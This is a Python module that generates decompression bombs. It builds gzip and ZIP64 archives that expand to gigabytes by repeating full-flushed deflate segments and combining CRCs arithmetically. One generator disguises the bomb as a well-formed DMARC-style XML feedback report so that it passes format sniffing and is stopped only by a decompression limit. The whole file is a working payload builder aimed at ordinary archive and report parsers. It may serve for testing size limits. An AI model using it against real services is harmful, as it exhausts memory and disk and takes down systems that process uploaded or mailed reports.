"""Decompression bombs built in milliseconds instead of compressing gigabytes.

A deflate stream is flushed with Z_FULL_FLUSH after every 1 MiB chunk of one repeated byte. A full flush resets
the compressor, so every further chunk compresses to the very same bytes: the stream for N chunks is the first
segment, then one segment repeated, then the end. The CRC-32 of the content comes from zlib's crc32_combine
algorithm, so nothing ever touches the gigabytes the bomb stands for.
"""
from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

MiB = 1 << 20
GiB = 1 << 30
CHUNK = MiB


@dataclass(frozen=True)
class Deflated:
    raw: bytes  # raw deflate stream (no header)
    size: int  # uncompressed size
    crc: int  # CRC-32 of the uncompressed content


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, index = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (the algorithm of zlib's crc32_combine)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _crc_repeated(crc_chunk: int, chunk_len: int, times: int) -> int:
    result, result_len = 0, 0
    block, block_len = crc_chunk, chunk_len
    while times:
        if times & 1:
            result = crc32_combine(result, block, block_len) if result_len else block
            result_len += block_len
        block = crc32_combine(block, block, block_len)
        block_len *= 2
        times >>= 1
    return result


def repeated_deflate(prefix: bytes, fill: bytes, chunks: int, suffix: bytes = b"") -> Deflated:
    """Deflates prefix + fill * (chunks * CHUNK) + suffix, where fill is one byte."""
    assert len(fill) == 1 and chunks >= 3
    block = fill * CHUNK
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    first = compressor.compress(prefix + block) + compressor.flush(zlib.Z_FULL_FLUSH)
    middle = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert middle == again, "a full flush did not make the segments repeat"
    last = compressor.compress(block + suffix) + compressor.flush(zlib.Z_FINISH)
    raw = first + middle * (chunks - 2) + last
    crc = zlib.crc32(prefix)
    crc = crc32_combine(crc, _crc_repeated(zlib.crc32(block), CHUNK, chunks), chunks * CHUNK)
    crc = crc32_combine(crc, zlib.crc32(suffix), len(suffix))
    return Deflated(raw, len(prefix) + chunks * CHUNK + len(suffix), crc)


def gzip_bytes(stream: Deflated) -> bytes:
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no flags, mtime 0, max compression, unix
    return header + stream.raw + struct.pack("<II", stream.crc, stream.size & 0xFFFFFFFF)


def zip64_bytes(name: str, stream: Deflated) -> bytes:
    """A one-member zip whose sizes live in ZIP64 extra fields (needed past 4 GiB - 1)."""
    fname = name.encode()
    extra = struct.pack("<HHQQ", 0x0001, 16, stream.size, len(stream.raw))
    dos_time, dos_date = 0, 0x21  # 1980-01-01 00:00
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, dos_time, dos_date, stream.crc,
                        0xFFFFFFFF, 0xFFFFFFFF, len(fname), len(extra)) + fname + extra
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, dos_time, dos_date, stream.crc,
                          0xFFFFFFFF, 0xFFFFFFFF, len(fname), len(extra), 0, 0, 0, 0, 0) + fname + extra
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(stream.raw), 0)
    return local + stream.raw + central + end


XML_PREFIX = b'<?xml version="1.0" encoding="UTF-8"?>\n<feedback>\n<report_metadata><org_name>'
XML_SUFFIX = b"</org_name></report_metadata></feedback>\n"


def xml_bomb_stream(size: int) -> Deflated:
    """A report-looking XML document of about `size` bytes, nearly all of it one enormous run of spaces. Only a
    decompression limit stops it early: the head sniffs as XML and the document stays well-formed."""
    return repeated_deflate(XML_PREFIX, b" ", max(size // CHUNK, 3), XML_SUFFIX)


def zeros_bomb_stream(size: int) -> Deflated:
    return repeated_deflate(b"", b"\x00", max(size // CHUNK, 3))
